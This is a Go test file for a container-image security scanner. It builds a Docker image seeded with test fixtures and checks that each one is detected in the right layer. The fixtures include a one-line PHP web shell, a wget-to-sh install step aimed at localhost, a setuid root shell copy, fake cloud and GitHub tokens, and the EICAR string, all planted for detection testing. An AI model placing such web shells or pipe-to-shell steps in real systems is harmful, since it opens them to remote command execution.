package scan

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/picket-cdr/picket/internal/image"
	"github.com/picket-cdr/picket/internal/testimage"
)

// plantedDockerfile builds on the busybox test image with things a deep
// scan must find, each in its own layer so the layer attribution is
// checked too.
const plantedDockerfile = `FROM %BASE%
ENV DB_PASSWORD=hunter2hunter2
ARG NPM_TOKEN=npm_s3cr3tt0k3nvalue
RUN echo "$NPM_TOKEN" >/dev/null
RUN cp /bin/busybox /bin/rootsh && chmod 4755 /bin/rootsh
COPY dot.env /app/.env
RUN wget -qO- http://127.0.0.1:9/install.sh | sh || true
COPY aws.ini /app/config/aws.ini
COPY gh-token /root/.gh-token
RUN rm /root/.gh-token
COPY eicar.com /srv/eicar.com
COPY up.php /var/www/html/up.php
VOLUME /proc
EXPOSE 22
`

// plantedFiles are the build context's files.
var plantedFiles = map[string]string{
	"dot.env":  "API_KEY=abc\n",
	"aws.ini":  "[default]\naws_access_key_id = AKIA4HXQ2TZ7PLM3KW9B\naws_secret_access_key = q8Jd0r7Lk2VbX9mZp4Wc1Ny6Ht3Fs5Ga0Ue8Ri2Y\n",
	"gh-token": "ghp_R8mKq2ZtW5xNv7LpC3bYh9JdF1sG6aQe4U0o\n",
	// Built from two halves so that this source file is not itself the
	// EICAR test file for scanners that look at it.
	"eicar.com": `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-` + `STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`,
	"up.php":    "<?php if (isset($_POST['c'])) { system($_POST['c']); } ?>\n",
}

// buildPlanted builds the planted image with the real Docker Engine.
func buildPlanted(t *testing.T) string {
	t.Helper()
	base := testimage.RequireBusybox(t)
	dir := t.TempDir()
	df := strings.ReplaceAll(plantedDockerfile, "%BASE%", base.Ref)
	os.WriteFile(filepath.Join(dir, "Dockerfile"), []byte(df), 0o644)
	for name, body := range plantedFiles {
		os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644)
	}
	tag := "picket-test/planted:1"
	cmd := exec.Command("docker", "build", "-q", "-t", tag, dir)
	cmd.Env = append(os.Environ(), "DOCKER_BUILDKIT=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("docker build: %v\n%s", err, out)
	}
	return tag
}

func TestPlantedImage(t *testing.T) {
	tag := buildPlanted(t)
	rep, err := New().Scan(context.Background(), "docker-daemon:"+tag, image.Options{})
	if err != nil {
		t.Fatal(err)
	}
	type want struct {
		rule, path string
		layer      int // -1: image-level, no layer
		removed    bool
	}
	// The layer each planted file was made in, from the history.
	layerOf := func(marker string) int {
		for _, l := range rep.Target.Layers {
			if strings.Contains(l.CreatedBy, marker) {
				return l.Index
			}
		}
		t.Fatalf("no layer created by %q", marker)
		return -1
	}
	wants := []want{
		{"PKT-IMG-SECRET-ENV", "", -1, false},
		{"PKT-IMG-SECRET-HISTORY", "", -1, false},
		{"PKT-IMG-PIPE-INSTALL", "", -1, false},
		{"PKT-IMG-SENSITIVE-VOLUME", "", -1, false},
		{"PKT-IMG-EXPOSE-SSH", "", -1, false},
		{"PKT-IMG-ROOT-USER", "", -1, false},
		{"PKT-FS-SETUID", "/bin/rootsh", layerOf("rootsh"), false},
		{"PKT-FS-UNNEEDED", "/app/.env", layerOf("/app/.env"), false},
		{"aws-secret-access-key", "/app/config/aws.ini", layerOf("/app/config/aws.ini"), false},
		{"github-pat", "/root/.gh-token", layerOf("/root/.gh-token"), true},
		{"PKT-YARA-EICAR_Test_File", "/srv/eicar.com", layerOf("/srv/eicar.com"), false},
		{"PKT-WEBSHELL", "/var/www/html/up.php", layerOf("/var/www/html/up.php"), false},
	}
	for _, w := range wants {
		found := false
		for _, f := range rep.Findings {
			if f.RuleID != w.rule || w.path != "" && f.Location.Path != w.path {
				continue
			}
			found = true
			if removed := f.Attributes["removedInLaterLayer"] == "true"; removed != w.removed {
				t.Errorf("%s %s: removedInLaterLayer=%t, want %t", w.rule, w.path, removed, w.removed)
			}
			if w.layer >= 0 && (f.Location.LayerIndex == nil || *f.Location.LayerIndex != w.layer) {
				t.Errorf("%s %s: layer %v, want %d", w.rule, w.path, layerIndex(f.Location.LayerIndex), w.layer)
			}
			if strings.Contains(f.Evidence, "hunter2hunter2") || strings.Contains(f.Evidence, "npm_s3cr3tt0k3nvalue") ||
				strings.Contains(f.Evidence, "q8Jd0r7Lk2VbX9mZp4Wc1Ny6Ht3Fs5Ga0Ue8Ri2Y") || strings.Contains(f.Evidence, "R8mKq2ZtW5xNv7LpC3bYh9JdF1sG6aQe4U0o") {
				t.Errorf("%s: evidence leaks the secret: %q", w.rule, f.Evidence)
			}
		}
		if !found {
			t.Errorf("%s %s not found", w.rule, w.path)
		}
	}
}

func layerIndex(p *int) int {
	if p == nil {
		return -1
	}
	return *p
}
